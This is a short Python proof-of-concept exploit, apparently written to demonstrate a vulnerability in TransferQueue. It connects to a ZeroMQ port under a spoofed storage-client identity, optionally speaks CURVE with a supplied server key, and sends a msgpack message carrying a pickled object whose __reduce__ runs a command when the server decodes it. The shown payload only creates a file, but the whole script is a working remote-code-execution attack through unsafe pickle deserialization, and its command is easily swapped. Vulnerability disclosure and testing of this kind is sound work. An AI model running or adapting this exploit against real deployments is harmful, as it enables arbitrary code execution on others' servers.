"""What a stranger sends to a port of TransferQueue: one message that runs code where it is decoded.

    python hostile_message.py ADDRESS PORT FILE [SERVER_KEY]

FILE is made by whoever decodes it. With a key of the server's (40 characters, a guess), the stranger speaks CURVE.
"""

import pickle
import subprocess
import sys

import msgspec
import zmq

# The storage units take requests from identities that begin as their clients' do.
IDENTITY = b"TQ_STORAGE_stranger"
PICKLED = 1  # transfer_queue.utils.serial_utils.CUSTOM_TYPE_PICKLE


class Touch:
    def __init__(self, file: str):
        self.file = file

    def __reduce__(self):
        return subprocess.call, (["touch", self.file],)


def send(address: str, port: int, file: str, server_key: str | None = None) -> None:
    """Send it, and give it time to arrive."""
    context = zmq.Context()
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.IDENTITY, IDENTITY)
    if server_key:
        socket.curve_serverkey = server_key.encode()
        socket.curve_publickey, socket.curve_secretkey = zmq.curve_keypair()
    socket.connect(f"tcp://{address}:{port}")
    socket.send(msgspec.msgpack.encode({"body": msgspec.msgpack.Ext(PICKLED, pickle.dumps(Touch(file)))}))
    socket.poll(1000)  # an answer, or none
    context.destroy(linger=0)


if __name__ == "__main__":
    send(sys.argv[1], int(sys.argv[2]), *sys.argv[3:])
